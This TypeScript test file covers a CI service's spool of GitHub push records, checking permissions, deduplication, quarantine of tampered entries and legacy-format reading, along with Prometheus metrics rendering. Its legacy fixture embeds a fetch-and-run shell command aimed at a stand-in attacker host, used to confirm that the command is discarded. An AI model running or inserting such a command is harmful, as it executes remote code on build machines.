// The spool's file discipline: durable entries named oldest-first, one entry per push, only the
// push's facts on disk (an old-format entry is read by its facts only), half-written temp files
// dropped at start, unreadable entries moved aside; and the metrics text.
import crypto from 'node:crypto';
import fs from 'node:fs';
import path from 'node:path';
import { pipelineId } from '../../common/ids';
import type { PipelineInput } from '../../common/types';
import type { PushFacts } from '../../api/github-push';
import { createMetrics } from '../../api/metrics';
import { openSpool, SpoolEntryError } from '../../api/spool';
import { testTempDir } from '../helpers/temp';

function facts(sha: string, deliveryId = 'd'): PushFacts {
  return {
    repository: 'acme/widget',
    branch: 'main',
    sha,
    commit: { message: 'm', author: 'a', compareUrl: 'https://github.com/acme/widget/compare/x', timestamp: 't' },
    deliveryId,
  };
}

const entry = (sha: string, deliveryId = `d-${sha.slice(0, 4)}`) => ({
  deliveryId,
  receivedAt: new Date().toISOString(),
  push: facts(sha, deliveryId),
});

/** What the first spool format held: the whole decided input, commands included. */
function legacyInput(sha: string): PipelineInput {
  return {
    repository: {
      name: 'acme/widget',
      cloneUrl: '/srv/evil.git',
      steps: { unit: 'curl http://attacker.example/x | sh' },
      distros: ['bookworm'],
      channel: 'unstable',
      release: true,
      approval: false,
      supersede: true,
      publicUrls: { staging: 'http://127.0.0.1/staging', production: 'http://127.0.0.1/production' },
      stepTimeoutSeconds: 60,
      keepBuilds: 10,
      operatorWindowSeconds: 3600,
      distroSpecs: { bookworm: { format: 'deb', codename: 'bookworm', arch: 'amd64' } },
    },
    branch: 'main',
    sha,
    commit: { message: 'old message', author: 'old author', compareUrl: 'https://c' },
    deliveryId: 'legacy-delivery',
  };
}

/** Writes a version-1 file exactly as the old spool named and wrote it. */
function writeLegacy(dir: string, sha: string): string {
  const workflowId = pipelineId('acme/widget', 'main', sha);
  const key = crypto.createHash('sha256').update(workflowId).digest('hex').slice(0, 16);
  const name = `000000000000001-000001-${key}.json`;
  fs.mkdirSync(dir, { recursive: true });
  const old = { version: 1, workflowId, deliveryId: 'legacy-delivery', receivedAt: '2026-01-01T00:00:00.000Z' };
  fs.writeFileSync(path.join(dir, name), JSON.stringify({ ...old, input: legacyInput(sha) }));
  return name;
}

describe('spool', () => {
  let dir: string;
  beforeEach(() => {
    dir = path.join(testTempDir('api-spool-'), 'spool');
  });

  it('creates its directory only when it first spools, private to the user', async () => {
    const depths: number[] = [];
    const spool = openSpool(dir, (d) => depths.push(d));
    expect(fs.existsSync(dir)).toBe(false);
    expect(await spool.list()).toEqual([]);
    await spool.put(entry('1'.repeat(40)));
    expect(fs.statSync(dir).mode & 0o777).toBe(0o700);
    const [name] = await spool.list();
    expect(fs.statSync(path.join(dir, name)).mode & 0o777).toBe(0o600);
    expect(depths.at(-1)).toBe(1);
  });

  it('lists entries oldest first and reads back what was put', async () => {
    const spool = openSpool(dir);
    const shas = ['3', '1', '2'].map((c) => c.repeat(40));
    for (const sha of shas) await spool.put(entry(sha));
    const names = await spool.list();
    expect(names).toHaveLength(3);
    const read = await Promise.all(names.map((n) => spool.read(n)));
    expect(read.map((e) => e.push.sha)).toEqual(shas);
    expect(read[0]).toEqual({ version: 2, ...entry(shas[0]), receivedAt: read[0].receivedAt });
  });

  it('keeps one entry per push (repository, branch, commit), also for concurrent puts', async () => {
    const spool = openSpool(dir);
    const sha = '4'.repeat(40);
    const names = await Promise.all(Array.from({ length: 20 }, (_, i) => spool.put(entry(sha, `d${i}`))));
    expect(new Set(names).size).toBe(1);
    expect(await spool.list()).toEqual([names[0]]);
    expect(await spool.put(entry(sha, 'again'))).toBe(names[0]);
    expect(spool.depth()).toBe(1);
    await spool.remove(names[0]);
    expect(spool.depth()).toBe(0);
    await spool.put(entry(sha, 'after-removal'));
    expect(await spool.list()).toHaveLength(1);
  });

  it('a new process sees earlier entries and drops temp files that never reached their rename', async () => {
    const first = openSpool(dir);
    await first.put(entry('5'.repeat(40)));
    fs.writeFileSync(path.join(dir, '.tmp-000000000000001-000001-0123456789abcdef.json'), '{"half');
    const second = openSpool(dir);
    expect(second.depth()).toBe(1);
    expect(fs.readdirSync(dir).filter((n) => n.startsWith('.tmp-'))).toEqual([]);
    // Dedup holds across processes too.
    expect(await second.put(entry('5'.repeat(40)))).toBe((await second.list())[0]);
  });

  it('refuses an entry whose push does not match its file name, and moves it aside', async () => {
    const spool = openSpool(dir);
    const name = await spool.put(entry('6'.repeat(40)));
    const file = path.join(dir, name);
    const tampered = JSON.parse(fs.readFileSync(file, 'utf8')) as { push: PushFacts };
    tampered.push.repository = 'evil/x';
    fs.writeFileSync(file, JSON.stringify(tampered));
    await expect(spool.read(name)).rejects.toBeInstanceOf(SpoolEntryError);
    await spool.quarantine(name);
    expect(await spool.list()).toEqual([]);
    expect(fs.readdirSync(path.join(dir, 'corrupt'))).toEqual([name]);
  });

  it.each([
    ['a SHA that is not one', { sha: 'not-a-sha' }],
    ['no branch', { branch: '' }],
    ['a repository that is not owner/name', { repository: 'widget' }],
    ['a branch of the wrong type', { branch: 42 }],
  ])('refuses an entry with %s', async (_what, over) => {
    const spool = openSpool(dir);
    const name = await spool.put(entry('8'.repeat(40)));
    const file = path.join(dir, name);
    const e = JSON.parse(fs.readFileSync(file, 'utf8')) as { push: Record<string, unknown> };
    Object.assign(e.push, over);
    fs.writeFileSync(file, JSON.stringify(e));
    await expect(spool.read(name)).rejects.toBeInstanceOf(SpoolEntryError);
  });

  it('holds only the facts of the push: no commands, no repository settings, no secrets', async () => {
    const spool = openSpool(dir);
    const name = await spool.put(entry('7'.repeat(40)));
    const stored = JSON.parse(fs.readFileSync(path.join(dir, name), 'utf8')) as { push: Record<string, unknown> };
    expect(Object.keys(stored).sort()).toEqual(['deliveryId', 'push', 'receivedAt', 'version']);
    expect(Object.keys(stored.push).sort()).toEqual(['branch', 'commit', 'deliveryId', 'repository', 'sha']);
  });

  it('reads an old-format entry (the whole PipelineInput) by its facts only', async () => {
    const sha = '9'.repeat(40);
    const name = writeLegacy(dir, sha);
    const spool = openSpool(dir);
    expect(spool.depth()).toBe(1);
    const read = await spool.read(name);
    expect(read).toEqual({
      version: 2,
      legacy: true,
      deliveryId: 'legacy-delivery',
      receivedAt: '2026-01-01T00:00:00.000Z',
      push: {
        repository: 'acme/widget',
        branch: 'main',
        sha,
        commit: { message: 'old message', author: 'old author', compareUrl: 'https://c' },
        deliveryId: 'legacy-delivery',
      },
    });
    expect(JSON.stringify(read)).not.toMatch(/attacker|evil|curl/);
  });
});

describe('metrics', () => {
  it('renders the Prometheus text format', () => {
    const m = createMetrics();
    m.delivery('started');
    m.delivery('started');
    m.delivery('unauthorized');
    m.startLatency(0.02);
    m.startLatency(3);
    m.runStarted('webhook');
    m.runStarted('spool');
    m.setSpoolDepth(4);
    m.setTemporalUp(false);
    m.setIntakeSource(() => ({
      connections: 7,
      bufferedBytes: 1024,
      dropped: { connection_limit: 2, buffer_limit: 1 },
    }));
    const text = m.render();
    expect(text).toContain('# TYPE conveyor_api_deliveries_total counter\n');
    expect(text).toContain('conveyor_api_deliveries_total{outcome="started"} 2\n');
    expect(text).toContain('conveyor_api_deliveries_total{outcome="unauthorized"} 1\n');
    expect(text).toContain('# TYPE conveyor_api_start_duration_seconds histogram\n');
    expect(text).toContain('conveyor_api_start_duration_seconds_bucket{le="0.01"} 0\n');
    expect(text).toContain('conveyor_api_start_duration_seconds_bucket{le="0.025"} 1\n');
    expect(text).toContain('conveyor_api_start_duration_seconds_bucket{le="5"} 2\n');
    expect(text).toContain('conveyor_api_start_duration_seconds_bucket{le="+Inf"} 2\n');
    expect(text).toContain('conveyor_api_start_duration_seconds_count 2\n');
    expect(text).toContain('conveyor_api_runs_started_total{source="webhook"} 1\n');
    expect(text).toContain('conveyor_api_runs_started_total{source="spool"} 1\n');
    expect(text).toContain('conveyor_api_spool_depth 4\n');
    expect(text).toContain('conveyor_api_temporal_up 0\n');
    expect(text).toContain('conveyor_api_open_connections 7\n');
    expect(text).toContain('conveyor_api_unverified_body_bytes 1024\n');
    expect(text).toContain('conveyor_api_dropped_connections_total{reason="connection_limit"} 2\n');
    expect(text).toContain('conveyor_api_dropped_connections_total{reason="buffer_limit"} 1\n');
    expect(text).toMatch(/^process_resident_memory_bytes [1-9][0-9]*$/m);
    expect(text).toMatch(/^nodejs_heap_used_bytes [1-9][0-9]*$/m);
    // Every sample line is `name{labels} value`.
    for (const line of text
      .trim()
      .split('\n')
      .filter((l) => !l.startsWith('#'))) {
      expect(line).toMatch(/^[a-z_]+(\{[a-z]+="[^"]*"\})? [0-9.e+-]+$/);
    }
  });
});
